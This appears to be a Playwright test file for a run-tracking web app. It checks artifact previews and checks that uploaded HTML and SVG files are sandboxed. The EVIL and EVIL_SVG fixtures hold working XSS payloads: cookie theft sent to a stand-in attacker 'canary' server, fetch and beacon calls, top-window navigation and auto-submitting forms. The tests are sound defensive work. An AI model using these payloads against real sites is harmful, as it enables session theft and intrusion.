"""Files of a run in a real browser: folders, every kind of preview, and pages that mean ill."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest
import requests
from playwright.sync_api import Browser, Page, expect

from tests.browser.files import files, log_files
from tests.browser.test_accessibility import AXE, RUN_AXE
from tests.browser.visitor import Visitor
from tests.servers.live import LiveRunfold

pytestmark = pytest.mark.browser

# Every way to reach {canary} or the visitor's session that needs no click.
EVIL = """<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url={canary}/refresh">
<link rel="stylesheet" href="{canary}/style"><link rel="prefetch" href="{canary}/prefetch">
<link rel="preload" as="image" href="{canary}/preload"><link rel="icon" href="{canary}/icon">
<style>@import "{canary}/import"; body {{ background: url({canary}/background) }}
@font-face {{ font-family: f; src: url({canary}/font) }} h1 {{ font-family: f }}</style>
<base href="{canary}/">
</head><body onload="document.title = 'ran'"><h1>Report</h1>
<script>
document.title = "ran";
document.body.dataset.ran = "yes";
new Image().src = "{canary}/script?" + document.cookie;
fetch("{canary}/fetch"); navigator.sendBeacon("{canary}/beacon");
parent.document.title = "ran"; top.location = "{canary}/top";
</script>
<img src="{canary}/img" onerror="document.title = 'ran'"><img src="relative"><video src="{canary}/video" autoplay></video>
<iframe src="{canary}/iframe"></iframe><object data="{canary}/object"></object><embed src="{canary}/embed">
<form action="{canary}/form" method="post"><input autofocus onfocus="this.form.submit()"></form>
<svg onload="document.title = 'ran'"><use href="{canary}/use#x"/><image href="{canary}/image"/></svg>
<a href="{canary}/click" ping="{canary}/ping">Go on</a>
</body></html>"""
EVIL_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"
 onload="document.title = 'ran'"><style>@import "{canary}/import";</style><rect width="300" height="200" fill="teal"/>
<script>document.title = "ran"; new Image().src = "{canary}/script?" + document.cookie; fetch("{canary}/fetch")</script>
<image href="{canary}/image" width="9" height="9"/><use href="{canary}/use#x"/>
<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="{canary}/img"/>
<iframe src="{canary}/iframe"></iframe></body></foreignObject></svg>"""


class Canary(ThreadingHTTPServer):
    """A server of the attacker's that notes whatever reaches it."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Noting)
        self.seen: list[str] = []

    @property
    def url(self) -> str:
        """Where it listens."""
        return f"http://127.0.0.1:{self.server_port}"


class _Noting(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Canary)
        self.server.seen.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET  # noqa: N815 - the base class names it

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class names it
        """Nothing."""


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    server = Canary()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def run_url(visitor: Visitor, canary: Canary, live_worker: LiveRunfold) -> str:
    """A run with every kind of file; a worker makes previews."""
    run_id = visitor.log_run("filed", values={})
    evil = {
        "evil/page.html": EVIL.format(canary=canary.url).encode(),
        "evil/image.svg": EVIL_SVG.format(canary=canary.url).encode(),
    }
    log_files(visitor, run_id, files() | evil)
    return f"{visitor.project_url}/runs/{run_id}"


@pytest.fixture
def hardened(chromium: Browser, visitor: Visitor) -> Iterator[Page]:
    """A page of a signed-in visitor whose console may complain: of what it has blocked."""
    context = chromium.new_context()
    page = context.new_page()
    visitor.sign_in(page)
    yield page
    context.close()


def artifact_url(run_url: str, path: str, part: str = "") -> str:
    return f"{run_url}/artifacts{part}?path={quote(path)}"


def open_preview(page: Page, run_url: str, path: str) -> None:
    page.goto(artifact_url(run_url, path))
    expect(page.locator(".preview-progress")).to_have_count(0, timeout=30_000)


def test_folders_are_walked_without_reloading_by_keyboard_too(page: Page, run_url: str) -> None:
    page.goto(run_url)
    page.get_by_role("link", name="Artifacts").click()
    page.get_by_role("link", name=re.compile("^plots")).click()
    expect(page.get_by_role("heading", name="plots")).to_be_focused()
    page.get_by_role("link", name="loss.png", exact=True).focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="loss.png")).to_be_focused()
    expect(page.get_by_role("img", name="loss.png")).to_be_visible(timeout=30_000)
    expect(page.get_by_role("img", name="loss.png")).to_have_js_property("naturalWidth", 800)
    page.get_by_label("Folders").get_by_role("link", name="artifacts").click()
    expect(page.get_by_role("heading", name="All files")).to_be_visible()
    page.go_back()
    expect(page.get_by_role("heading", name="loss.png")).to_be_visible()


def test_tables(page: Page, run_url: str) -> None:
    open_preview(page, run_url, "data/cities.csv")
    expect(page.get_by_role("cell", name="<b>7</b>", exact=True)).to_be_visible()
    expect(page.get_by_text("First 100 rows, 3 columns")).to_be_visible()
    open_preview(page, run_url, "data/scores.parquet")
    expect(page.get_by_role("columnheader", name="loss double")).to_be_visible()
    expect(page.get_by_role("columnheader", name="loss double")).to_have_css("text-align", "end")
    expect(page.get_by_text("First 100 of 500 rows, 3 columns")).to_be_visible()
    open_preview(page, run_url, "data/table.json")
    expect(page.get_by_role("cell", name="What is <i>this</i>?")).to_be_visible()


def test_texts(page: Page, run_url: str) -> None:
    open_preview(page, run_url, "model/card.md")
    expect(page.get_by_role("heading", name="Model card")).to_be_visible()
    expect(page.get_by_role("link", name="the paper")).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert page.locator(".prose img").count() == 0
    open_preview(page, run_url, "config.json")
    page.get_by_text("tags").click()
    expect(page.get_by_text('"b"')).to_be_visible()
    open_preview(page, run_url, "exploration.ipynb")
    expect(page.get_by_role("heading", name="Exploration", exact=True)).to_be_visible()
    expect(page.get_by_alt_text("Output of cell 3")).to_have_js_property("naturalWidth", 800)


def test_a_document_shows_its_first_page(page: Page, run_url: str) -> None:
    open_preview(page, run_url, "plots/report.pdf")
    assert page.get_by_role("img", name="report.pdf, first page").evaluate("image => image.naturalWidth") > 700
    expect(page.get_by_text("Page 1 of 2")).to_be_visible()


def test_a_download_is_the_file(page: Page, run_url: str) -> None:
    page.goto(artifact_url(run_url, "plots/loss.png"))
    with page.expect_download() as found:
        page.get_by_role("link", name="Download").last.click()
    assert found.value.suggested_filename == "loss.png"
    assert Path(found.value.path()).read_bytes() == files()["plots/loss.png"]


@pytest.mark.parametrize("name", ["evil/page.html", "evil/image.svg"])
@pytest.mark.parametrize("part", ["", "/raw"])
def test_evil_pages_run_nothing_and_reach_nobody(
    hardened: Page, run_url: str, canary: Canary, name: str, part: str
) -> None:
    """In the frame of our page, and opened by their own address, where the session's cookie goes along."""
    canary.seen.clear()
    requests.get(f"{canary.url}/alive", timeout=10)
    assert canary.seen.pop() == "/alive", "the canary hears what gets through"
    hardened.goto(artifact_url(run_url, name, part))
    hardened.wait_for_timeout(1_500)
    assert canary.seen == []
    assert hardened.title() != "ran"
    assert hardened.url == artifact_url(run_url, name, part)
    assert not [frame.url for frame in hardened.frames if frame.url.startswith(canary.url)]


def test_an_evil_page_is_shown_and_has_an_origin_of_its_own(hardened: Page, run_url: str) -> None:
    hardened.goto(artifact_url(run_url, "evil/page.html"))
    frame = hardened.frame_locator("iframe.preview-frame")
    expect(frame.get_by_role("heading", name="Report")).to_be_visible()
    expect(hardened.get_by_text("They are not run here")).to_be_visible()
    # The test's own script runs in the document, where the document's may not, and finds what that would find.
    for part, number in (("", 1), ("/raw", 0)):
        hardened.goto(artifact_url(run_url, "evil/page.html", part))
        document = hardened.frames[number]
        expect(document.get_by_role("heading", name="Report")).to_be_visible()
        assert document.evaluate("self.origin") == "null"
        assert "SecurityError" in document.evaluate(
            "(() => { try { return document.cookie } catch (e) { return e.name } })()"
        )
        assert "SecurityError" in document.evaluate(
            "(() => { try { return localStorage } catch (e) { return e.name } })()"
        )
        assert document.evaluate("document.body.dataset.ran ?? 'no'") == "no"


def test_a_link_in_an_evil_page_leads_its_frame_nowhere(hardened: Page, run_url: str, canary: Canary) -> None:
    canary.seen.clear()
    hardened.goto(artifact_url(run_url, "evil/page.html"))
    hardened.frame_locator("iframe.preview-frame").get_by_role("link", name="Go on").click()
    hardened.wait_for_timeout(500)
    assert canary.seen == []
    expect(hardened.get_by_role("heading", name="page.html")).to_be_visible()


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_pages_have_no_violations(page: Page, run_url: str, theme: str) -> None:
    if not AXE.exists():
        pytest.skip("This needs axe-core: npm ci in the repository.")
    page.emulate_media(color_scheme="dark" if theme == "dark" else "light")
    found = []
    for path in ["", "plots", *(name for name in files() if "<" not in name)]:
        open_preview(page, run_url, path)
        page.evaluate(AXE.read_text())
        found += [f"{path} {violation}" for violation in page.evaluate(RUN_AXE)]
    assert not found, "\n".join(found)


def test_nothing_is_wider_than_a_phone(page: Page, run_url: str) -> None:
    page.set_viewport_size({"width": 390, "height": 800})
    for path in ["", *files()]:
        open_preview(page, run_url, path)
        assert page.evaluate("document.documentElement.scrollWidth") == 390, path
